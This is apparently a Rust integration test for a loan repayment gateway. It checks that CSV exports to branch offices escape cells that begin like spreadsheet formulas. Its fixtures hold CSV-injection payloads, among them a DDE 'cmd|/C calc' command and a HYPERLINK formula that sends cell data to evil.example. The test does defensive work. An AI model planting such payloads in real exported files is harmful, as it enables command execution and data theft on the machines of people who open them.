//! The CSV files the gateway writes (the API's `Accept: text/csv` lists and the pages'
//! downloads) are opened by branches in Excel: a cell that starts like a formula is written
//! with a leading `'` (OWASP's rule), whether it came from a branch or from Kiva.

use serde_json::json;

use crate::helpers::*;
use crate::web::plain::{post_sign_in, set_cookie};
use repayment_gateway::sandbox::SandboxLoan;

const PERIOD: &str = "2026-10";

/// Kiva's list for THREE_COL is only these loans: the usual `L-*` are ended.
fn hostile_kiva_loans() -> Vec<SandboxLoan> {
    [
        "+1+2",
        "-3+4",
        "@SUM(1+1)*cmd|'/C calc'!A0",
        "\tTAB",
        "\rCR",
        "K-plain",
    ]
    .iter()
    .enumerate()
    .map(|(i, id)| SandboxLoan {
        partner_id: THREE_COL.into(),
        internal_loan_id: (*id).into(),
        internal_client_id: format!("=C{i}"),
        kiva_id: 9_000_000 + i as u64,
        status: "payingBack".into(),
        loan_local_price: "100.00".into(),
        loan_currency: "KES".into(),
        delinquent: false,
    })
    .collect()
}

async fn api_csv(rig: &DeliveryRig, list: &str) -> Answer {
    rig.app
        .send(
            rig.app
                .client
                .get(format!("{}/v1/periods/{PERIOD}/{list}", rig.app.address))
                .header("X-Api-Key", plain_key(HEAD_OFFICE))
                .header("Accept", "text/csv"),
        )
        .await
}

async fn page_csv(rig: &DeliveryRig, cookie: &str, list: &str) -> String {
    let answer = rig
        .app
        .client
        .get(format!(
            "{}/web/months/{PERIOD}/{list}.csv",
            rig.app.address
        ))
        .header("Cookie", cookie)
        .send()
        .await
        .unwrap();
    assert_eq!(answer.status(), 200);
    answer.text().await.unwrap()
}

#[tokio::test]
async fn cells_that_start_like_a_formula_are_neutralized_in_every_csv_written() {
    let rig = spawn_delivery_rig(Backend::Redis).await;
    for i in 0..SANDBOX_LOANS {
        rig.sandbox
            .set_loan_status(THREE_COL, &format!("L-{i}"), "ended");
    }
    rig.sandbox.add_loans(hostile_kiva_loans());
    let refresh = post_refresh(&rig.app, HEAD_OFFICE).await;
    assert_eq!(refresh.status, 202, "{}", refresh.text);
    wait_until("the refresh succeeds", async || {
        let status = rig
            .app
            .get(
                &format!("/v1/partners/{THREE_COL}/expected-loans"),
                Some(HEAD_OFFICE),
            )
            .await
            .body;
        status["refresh"]["last_succeeded_at"].is_string()
    })
    .await;

    // A branch reports loans Kiva does not expect, with ids an attacker chose.
    let report = json!({"period": PERIOD, "repayments": [
        {"loan_id": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "client_id": "=1+1", "amount": "5"},
        {"loan_id": "@cmd", "client_id": "-2", "amount": "6"},
        {"loan_id": "L-0", "client_id": "+C-0", "amount": "7"}]});
    let accepted = rig.app.submit(NAIROBI, &report).await;
    assert_eq!(accepted.status, 202, "{}", accepted.text);
    let id = accepted.body["id"].as_str().unwrap().to_owned();

    let not_reported = "internal_loan_id,internal_client_id,kiva_id,status,delinquent\n\
        '\tTAB,'=C3,9000003,payingBack,false\n\
        \"'\rCR\",'=C4,9000004,payingBack,false\n\
        '+1+2,'=C0,9000000,payingBack,false\n\
        '-3+4,'=C1,9000001,payingBack,false\n\
        '@SUM(1+1)*cmd|'/C calc'!A0,'=C2,9000002,payingBack,false\n\
        K-plain,'=C5,9000005,payingBack,false\n";
    let not_expected = format!(
        "loan_id,client_id,kiva_status,branch,report_id,position\n\
        \"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",'=1+1,not in Kiva's list,Nairobi,{id},0\n\
        '@cmd,'-2,not in Kiva's list,Nairobi,{id},1\n\
        L-0,'+C-0,not in Kiva's list,Nairobi,{id},2\n"
    );

    let api = api_csv(&rig, "not-reported").await;
    assert_eq!(api.status, 200, "{}", api.text);
    assert_eq!(api.text, not_reported);
    let api = api_csv(&rig, "not-expected").await;
    assert_eq!(api.status, 200, "{}", api.text);
    assert_eq!(api.text, not_expected);

    let signed_in = post_sign_in(&rig.app.address, &plain_key(HEAD_OFFICE)).await;
    let cookie = set_cookie(&signed_in, "rg_session").expect("signed in");
    let cookie = cookie.split(';').next().unwrap().to_owned();
    assert_eq!(page_csv(&rig, &cookie, "not-reported").await, not_reported);
    assert_eq!(page_csv(&rig, &cookie, "not-expected").await, not_expected);
}
